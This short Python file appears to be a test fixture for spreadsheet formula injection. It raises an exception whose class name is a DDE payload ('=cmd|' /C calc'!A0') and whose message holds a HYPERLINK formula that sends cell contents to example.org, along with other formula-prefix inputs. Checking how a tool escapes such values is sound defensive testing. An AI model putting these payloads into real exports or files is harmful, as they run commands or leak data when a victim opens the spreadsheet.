# rows = [27]
# attack = "names and messages that a spreadsheet would run"
# step = "softmax"
# outcomes = ["raised"]
# ---
class Formula(Exception):
    pass


Formula.__name__ = "=cmd|' /C calc'!A0"


def softmax(scores):
    raise Formula('=HYPERLINK("http://example.org/?" & A1, "+1")\n@SUM(1)\t-2+3')
